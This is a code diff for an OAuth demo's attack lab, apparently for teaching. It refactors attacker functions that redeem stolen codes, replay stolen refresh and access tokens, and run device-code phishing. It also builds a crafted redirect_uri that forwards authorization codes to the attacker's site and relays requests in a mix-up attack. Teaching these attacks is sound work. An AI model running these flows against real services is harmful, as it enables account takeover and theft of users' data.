@@ -4,15 +4,103 @@
  * What Mallory does with the real services, one function per scenario of the printer's attack lab (/lab).
  * She uses only what any stranger could: her own account, public endpoints, and what leaks to her site.
  */
+import { type BackChannel, DEVICE_CODE_GRANT_TYPE, describeNetworkError } from '@oauth-demo/back-channel';
 import type { AttackerConfig } from './config.js';
 import { authorizeAs } from './mallory_browser.js';
+
+/**
+ * Mallory's side of every attack: her configuration and her server-to-server HTTP client, the same
+ * @oauth-demo/back-channel (axios, one deadline per request, no redirects followed) as the printer's and Drive's.
+ */
+export interface Attacker {
+  config: AttackerConfig;
+  http: BackChannel['http'];
+}
+
+interface Answer {
+  status: number;
+  /** The JSON object of the answer; {} when there is none. */
+  body: Record<string, unknown>;
+  headers: { get(name: string): string | undefined };
+}
+
+/**
+ * One call of hers on the back channel. An answer of any status is returned; no answer at all (nothing listening,
+ * a timeout) is an Error in the words every service uses, shown on her site's error page.
+ */
+async function call(
+  mallory: Attacker,
+  url: string,
+  options: { form?: Record<string, string>; accessToken?: string } = {},
+): Promise<Answer> {
+  try {
+    const response = await mallory.http.request({
+      method: options.form ? 'POST' : 'GET',
+      url,
+      headers: {
+        ...(options.form ? { 'content-type': 'application/x-www-form-urlencoded' } : {}),
+        ...(options.accessToken ? { authorization: `Bearer ${options.accessToken}` } : {}),
+      },
+      ...(options.form ? { data: new URLSearchParams(options.form).toString() } : {}),
+    });
+    const data: unknown = response.data;
+    return {
+      status: response.status,
+      body: typeof data === 'object' && data !== null && !Array.isArray(data) ? (data as Record<string, unknown>) : {},
+      headers: {
+        get: (name) => {
+          const value: unknown = response.headers[name.toLowerCase()];
+          return typeof value === 'string' ? value : undefined;
+        },
+      },
+    };
+  } catch (error) {
+    throw new Error(`No answer from ${url.split('?')[0]}: ${describeNetworkError(error)}.`);
+  }
+}
+
+/** A token endpoint's answer (RFC 6749 §5.1, §5.2): the access token, or the error and its description. */
+type TokenAnswer = { status: number; body: Record<string, unknown> } & (
+  | { accessToken: string; error?: undefined }
+  | { accessToken?: undefined; error: string; description: string }
+);
+
+/** POST a token request to the real auth server's token endpoint (or one of its lab copies, `path`). */
+async function tokenRequest(mallory: Attacker, form: Record<string, string>, path = '/token'): Promise<TokenAnswer> {
+  const { status, body } = await call(mallory, `${mallory.config.auth.internalUrl}${path}`, { form });
+  if (status === 200 && typeof body.access_token === 'string') return { status, body, accessToken: body.access_token };
+  return {
+    status,
+    body,
+    error: typeof body.error === 'string' ? body.error : `HTTP ${status}`,
+    description: typeof body.error_description === 'string' ? body.error_description : '',
+  };
+}
+
+/**
+ * RFC 6749 §4.1.3: redeem an authorization code as the lab's PUBLIC client (client_id, no secret), with the
+ * code_verifier when she has one (RFC 7636 §4.5).
+ */
+function redeemCode(
+  mallory: Attacker,
+  form: { code: string; redirect_uri: string; code_verifier?: string | undefined },
+): Promise<TokenAnswer> {
+  return tokenRequest(mallory, {
+    grant_type: 'authorization_code',
+    code: form.code,
+    redirect_uri: form.redirect_uri,
+    client_id: mallory.config.labPublicClientId,
+    ...(form.code_verifier ? { code_verifier: form.code_verifier } : {}),
+  });
+}
 
 /**
  * Scenario 1, CSRF on the callback (RFC 9700 §4.7): an authorization response for MALLORY's account, addressed to
  * the printer's lab copy. She asks without state (she could not know the victim's anyway) and without PKCE.
  * Returns the callback URL she will make the victim's browser open.
  */
-export async function callbackWithMallorysCode(config: AttackerConfig): Promise<string> {
+export async function callbackWithMallorysCode(mallory: Attacker): Promise<string> {
+  const { config } = mallory;
   const request = new URL(`${config.auth.publicUrl}/authorize`);
   request.searchParams.set('response_type', 'code');
   request.searchParams.set('client_id', config.labClientId);
@@ -23,7 +111,7 @@ export async function callbackWithMallorysCode(config: AttackerConfig): Promise<
     config.auth.internalUrl,
     config.mallory.username,
     config.mallory.password,
-    config.httpTimeoutMs,
+    mallory.http,
   );
   if (!answer.startsWith(`${config.labRedirectUri}?`) || !new URL(answer).searchParams.has('code')) {
     throw new Error(`The auth server did not give Mallory a code (it sent her to ${answer.slice(0, 200)}).`);
@@ -43,51 +131,46 @@ export interface Redemption {
  * it takes; with PKCE she would need the code_verifier, which never left the victim's printer.
  */
 export async function redeemStolenCode(
-  config: AttackerConfig,
+  mallory: Attacker,
   code: string,
   extra: { redirect_uri?: string; code_verifier?: string } = {},
 ): Promise<Redemption> {
-  const form = new URLSearchParams({
-    grant_type: 'authorization_code',
+  const answer = await redeemCode(mallory, {
     code,
-    redirect_uri: extra.redirect_uri ?? config.labRedirectUri,
-    client_id: config.labPublicClientId,
+    redirect_uri: extra.redirect_uri ?? mallory.config.labRedirectUri,
+    code_verifier: extra.code_verifier,
   });
-  if (extra.code_verifier) form.set('code_verifier', extra.code_verifier);
-  const response = await fetch(`${config.auth.internalUrl}/token`, {
-    method: 'POST',
-    headers: { 'content-type': 'application/x-www-form-urlencoded' },
-    body: form.toString(),
-    signal: AbortSignal.timeout(config.httpTimeoutMs),
-  });
-  const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
-  if (response.status !== 200 || typeof body.access_token !== 'string') {
-    const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
-    const description = typeof body.error_description === 'string' ? body.error_description : '';
+  if (answer.error !== undefined)
     return {
       success: false,
-      summary: `The auth server refused the stolen code: ${error}.`,
-      details: [`${error}: ${description}`],
+      summary: `The auth server refused the stolen code: ${answer.error}.`,
+      details: [`${answer.error}: ${answer.description}`],
     };
-  }
-  return readPhotos(config, body.access_token, 'Mallory redeemed the stolen code and read the victim’s photo list');
+  return readPhotos(mallory, answer.accessToken, 'She redeemed the stolen code and read the victim’s photo list');
+}
+
+/** Drive's photo list (`path`: the real API or its lab copy), asked with a token she holds (RFC 6750 §2.1). */
+async function photosAt(
+  mallory: Attacker,
+  accessToken: string,
+  path = '/api/photos',
+): Promise<{ answer: Answer; owner: string; titles: string[] } | { answer: Answer; owner?: undefined }> {
+  const answer = await call(mallory, `${mallory.config.drive.internalUrl}${path}`, { accessToken });
+  const { owner, photos } = answer.body;
+  if (answer.status !== 200 || typeof owner !== 'string' || !Array.isArray(photos)) return { answer };
+  const titles = photos.map((p: { title?: unknown }) => (typeof p?.title === 'string' ? p.title : '?'));
+  return { answer, owner, titles };
 }
 
 /** With a token in hand: whose photos does Drive show her? */
-async function readPhotos(config: AttackerConfig, accessToken: string, what: string): Promise<Redemption> {
-  const response = await fetch(`${config.drive.internalUrl}/api/photos`, {
-    headers: { authorization: `Bearer ${accessToken}` },
-    signal: AbortSignal.timeout(config.httpTimeoutMs),
-  });
-  const body = (await response.json().catch(() => ({}))) as { owner?: unknown; photos?: { title?: unknown }[] };
-  if (response.status !== 200 || typeof body.owner !== 'string' || !Array.isArray(body.photos)) {
-    return { success: false, summary: `Drive refused her token (HTTP ${response.status}).`, details: [] };
-  }
-  const titles = body.photos.map((p) => (typeof p.title === 'string' ? p.title : '?'));
+async function readPhotos(mallory: Attacker, accessToken: string, what: string): Promise<Redemption> {
+  const photos = await photosAt(mallory, accessToken);
+  if (photos.owner === undefined)
+    return { success: false, summary: `Drive refused her token (HTTP ${photos.answer.status}).`, details: [] };
   return {
     success: true,
-    summary: `${what}: ${body.owner}’s ${titles.length} photos.`,
-    details: [`owner: ${body.owner}`, ...titles],
+    summary: `${what}: ${photos.owner}’s ${photos.titles.length} photos.`,
+    details: [`owner: ${photos.owner}`, ...photos.titles],
   };
 }
 
@@ -96,7 +179,7 @@ async function readPhotos(config: AttackerConfig, accessToken: string, what: str
  * one, yet, once the browser resolves its `..`, lands on the printer's careless "continue to" redirect
  * (`/lab/go?to=`), which forwards the answer, code included, to her site.
  */
-export function craftedRedirectUri(config: AttackerConfig, run: string): string {
+export function craftedRedirectUri({ config }: Attacker, run: string): string {
   return `${config.labRedirectUri}/../go?to=${encodeURIComponent(`${config.attacker.publicUrl}/catch/${run}`)}`;
 }
 
@@ -106,7 +189,7 @@ export function craftedRedirectUri(config: AttackerConfig, run: string): string 
  * code_challenge untouched, to the REAL auth server, as if the printer had sent it there. The real code then comes
  * back to the printer, which, without checking `iss`, sends it to the server it thinks it talks to: hers.
  */
-export function passOnToRealServer(config: AttackerConfig, query: Record<string, unknown>): string {
+export function passOnToRealServer({ config }: Attacker, query: Record<string, unknown>): string {
   const url = new URL(`${config.auth.publicUrl}/authorize`);
   for (const name of ['response_type', 'redirect_uri', 'state', 'code_challenge', 'code_challenge_method']) {
     if (typeof query[name] === 'string') url.searchParams.set(name, query[name]);
@@ -118,37 +201,22 @@ export function passOnToRealServer(config: AttackerConfig, query: Record<string,
 
 /** Evil AS's token endpoint: the real code (and the printer's own code_verifier!) arrive here; she redeems them. */
 export async function redeemAtRealServer(
-  config: AttackerConfig,
+  mallory: Attacker,
   form: { code: string; redirect_uri: string; code_verifier?: string },
 ): Promise<{ status: number; body: Record<string, unknown>; redemption: Redemption }> {
-  const request = new URLSearchParams({
-    grant_type: 'authorization_code',
-    code: form.code,
-    redirect_uri: form.redirect_uri,
-    client_id: config.labPublicClientId,
-  });
-  if (form.code_verifier) request.set('code_verifier', form.code_verifier);
-  const response = await fetch(`${config.auth.internalUrl}/token`, {
-    method: 'POST',
-    headers: { 'content-type': 'application/x-www-form-urlencoded' },
-    body: request.toString(),
-    signal: AbortSignal.timeout(config.httpTimeoutMs),
-  });
-  const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
-  if (response.status !== 200 || typeof body.access_token !== 'string') {
-    const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
+  const answer = await redeemCode(mallory, form);
+  if (answer.error !== undefined)
     return {
-      status: response.status,
-      body,
-      redemption: { success: false, summary: `The real auth server refused the code: ${error}.`, details: [] },
+      status: answer.status,
+      body: answer.body,
+      redemption: { success: false, summary: `The real auth server refused the code: ${answer.error}.`, details: [] },
     };
-  }
   return {
     status: 200,
-    body,
+    body: answer.body,
     redemption: await readPhotos(
-      config,
-      body.access_token,
+      mallory,
+      answer.accessToken,
       'Evil AS received the real code and redeemed it at the real auth server',
     ),
   };
@@ -160,35 +228,29 @@ export async function redeemAtRealServer(
  * that does not rotate. Returns her result and the refresh token to use next time (a new one when it rotated).
  */
 export async function useStolenRefreshToken(
-  config: AttackerConfig,
+  mallory: Attacker,
   refreshToken: string,
   endpoint: 'real' | 'lab',
 ): Promise<{ redemption: Redemption; next: string }> {
-  const path = endpoint === 'lab' ? '/lab/no-rotation/token' : '/token';
-  const response = await fetch(`${config.auth.internalUrl}${path}`, {
-    method: 'POST',
-    headers: { 'content-type': 'application/x-www-form-urlencoded' },
-    body: new URLSearchParams({
-      grant_type: 'refresh_token',
-      refresh_token: refreshToken,
-      client_id: config.labPublicClientId,
-    }).toString(),
-    signal: AbortSignal.timeout(config.httpTimeoutMs),
-  });
-  const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
-  if (response.status !== 200 || typeof body.access_token !== 'string') {
-    const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
-    const description = typeof body.error_description === 'string' ? body.error_description : '';
+  const answer = await tokenRequest(
+    mallory,
+    { grant_type: 'refresh_token', refresh_token: refreshToken, client_id: mallory.config.labPublicClientId },
+    endpoint === 'lab' ? '/lab/no-rotation/token' : '/token',
+  );
+  if (answer.error !== undefined)
     return {
-      redemption: { success: false, summary: `The auth server refused her refresh: ${error}.`, details: [description] },
+      redemption: {
+        success: false,
+        summary: `The auth server refused her refresh: ${answer.error}.`,
+        details: [answer.description],
+      },
       next: refreshToken,
     };
-  }
-  const next = typeof body.refresh_token === 'string' ? body.refresh_token : refreshToken;
+  const next = typeof answer.body.refresh_token === 'string' ? answer.body.refresh_token : refreshToken;
   const rotated = next !== refreshToken;
   const redemption = await readPhotos(
-    config,
-    body.access_token,
+    mallory,
+    answer.accessToken,
     `She refreshed with the stolen token${rotated ? ' (and got a new refresh token: rotation)' : ' (the same refresh token keeps working: no rotation)'}`,
   );
   return { redemption, next };
@@ -199,7 +261,7 @@ export async function useStolenRefreshToken(
  * callback page, reports the page's full address. An access token in the fragment is hers at once; a code is
  * worthless to her without its code_verifier.
  */
-export async function useLeakedAddress(config: AttackerConfig, address: string): Promise<Redemption> {
+export async function useLeakedAddress(mallory: Attacker, address: string): Promise<Redemption> {
   let url: URL;
   try {
     url = new URL(address);
@@ -210,7 +272,7 @@ export async function useLeakedAddress(config: AttackerConfig, address: string):
   const token = fragment.get('access_token');
   if (token) {
     const result = await readPhotos(
-      config,
+      mallory,
       token,
       'Her widget read the access token from the address (the fragment) and she used it',
     );
@@ -218,7 +280,7 @@ export async function useLeakedAddress(config: AttackerConfig, address: string):
   }
   const code = url.searchParams.get('code');
   if (code) {
-    const tried = await redeemStolenCode(config, code, { redirect_uri: `${url.origin}${url.pathname}` });
+    const tried = await redeemStolenCode(mallory, code, { redirect_uri: `${url.origin}${url.pathname}` });
     return {
       ...tried,
       summary: `Her widget read a code from the address, but: ${tried.summary}`,
@@ -240,21 +302,17 @@ export interface DeviceAuthorization {
 }
 
 /** Scenario 8, device code phishing (RFC 8628 §5.4): her "kiosk" starts a device flow, as any kiosk can. */
-export async function startDeviceFlow(config: AttackerConfig): Promise<DeviceAuthorization> {
-  const response = await fetch(`${config.auth.internalUrl}/device_authorization`, {
-    method: 'POST',
-    headers: { 'content-type': 'application/x-www-form-urlencoded' },
-    body: new URLSearchParams({ client_id: config.kioskClientId, scope: 'photos.read' }).toString(),
-    signal: AbortSignal.timeout(config.httpTimeoutMs),
+export async function startDeviceFlow(mallory: Attacker): Promise<DeviceAuthorization> {
+  const { status, body } = await call(mallory, `${mallory.config.auth.internalUrl}/device_authorization`, {
+    form: { client_id: mallory.config.kioskClientId, scope: 'photos.read' },
   });
-  const body = (await response.json()) as Partial<DeviceAuthorization>;
   if (
-    response.status !== 200 ||
+    status !== 200 ||
     typeof body.device_code !== 'string' ||
     typeof body.user_code !== 'string' ||
     typeof body.verification_uri !== 'string'
   ) {
-    throw new Error(`The auth server did not start a device flow (HTTP ${response.status}).`);
+    throw new Error(`The auth server did not start a device flow (HTTP ${status}).`);
   }
   return {
     device_code: body.device_code,
@@ -267,30 +325,19 @@ export async function startDeviceFlow(config: AttackerConfig): Promise<DeviceAut
 
 /** One poll of the token endpoint (RFC 8628 §3.4): a result, or 'pending' / 'slow_down'. */
 export async function pollDeviceFlow(
-  config: AttackerConfig,
+  mallory: Attacker,
   deviceCode: string,
 ): Promise<Redemption | 'pending' | 'slow_down'> {
-  const response = await fetch(`${config.auth.internalUrl}/token`, {
-    method: 'POST',
-    headers: { 'content-type': 'application/x-www-form-urlencoded' },
-    body: new URLSearchParams({
-      grant_type: 'urn:ietf:params:oauth:grant-type:device_code',
-      device_code: deviceCode,
-      client_id: config.kioskClientId,
-    }).toString(),
-    signal: AbortSignal.timeout(config.httpTimeoutMs),
+  const answer = await tokenRequest(mallory, {
+    grant_type: DEVICE_CODE_GRANT_TYPE,
+    device_code: deviceCode,
+    client_id: mallory.config.kioskClientId,
   });
-  const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
-  if (response.status === 200 && typeof body.access_token === 'string')
-    return readPhotos(config, body.access_token, 'Her kiosk got a token: you approved it');
-  if (body.error === 'authorization_pending') return 'pending';
-  if (body.error === 'slow_down') return 'slow_down';
-  const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
-  return {
-    success: false,
-    summary: `Her kiosk got no token: ${error}.`,
-    details: [typeof body.error_description === 'string' ? body.error_description : ''],
-  };
+  if (answer.error === undefined)
+    return readPhotos(mallory, answer.accessToken, 'Her kiosk got a token: you approved it');
+  if (answer.error === 'authorization_pending') return 'pending';
+  if (answer.error === 'slow_down') return 'slow_down';
+  return { success: false, summary: `Her kiosk got no token: ${answer.error}.`, details: [answer.description] };
 }
 
 /**
@@ -299,36 +346,26 @@ export async function pollDeviceFlow(
  * or at Drive's lab copy that believes any audience.
  */
 export async function replayAtDrive(
-  config: AttackerConfig,
+  mallory: Attacker,
   accessToken: string,
   drive: 'real' | 'lab',
 ): Promise<Redemption> {
-  const path = drive === 'lab' ? '/lab/no-aud/api/photos' : '/api/photos';
-  const response = await fetch(`${config.drive.internalUrl}${path}`, {
-    headers: { authorization: `Bearer ${accessToken}` },
-    signal: AbortSignal.timeout(config.httpTimeoutMs),
-  });
-  const body = (await response.json().catch(() => ({}))) as {
-    owner?: unknown;
-    photos?: { title?: unknown }[];
-    error?: unknown;
-    error_description?: unknown;
-  };
-  if (response.status !== 200 || typeof body.owner !== 'string' || !Array.isArray(body.photos)) {
-    const challenge = response.headers.get('www-authenticate') ?? '';
+  const photos = await photosAt(mallory, accessToken, drive === 'lab' ? '/lab/no-aud/api/photos' : '/api/photos');
+  if (photos.owner === undefined) {
+    const { status, body, headers } = photos.answer;
+    const challenge = headers.get('www-authenticate') ?? '';
     return {
       success: false,
-      summary: `Drive refused the token (HTTP ${response.status}${typeof body.error === 'string' ? ` ${body.error}` : ''}).`,
+      summary: `Drive refused the token (HTTP ${status}${typeof body.error === 'string' ? ` ${body.error}` : ''}).`,
       details: [
         typeof body.error_description === 'string' ? body.error_description : '',
         challenge ? `WWW-Authenticate: ${challenge}` : '',
       ].filter(Boolean),
     };
   }
-  const titles = body.photos.map((p) => (typeof p.title === 'string' ? p.title : '?'));
   return {
     success: true,
-    summary: `Her filters API replayed the token at Drive and read ${body.owner}’s ${titles.length} photos.`,
-    details: [`owner: ${body.owner}`, ...titles],
+    summary: `Her filters API replayed the token at Drive and read ${photos.owner}’s ${photos.titles.length} photos.`,
+    details: [`owner: ${photos.owner}`, ...photos.titles],
   };
 }
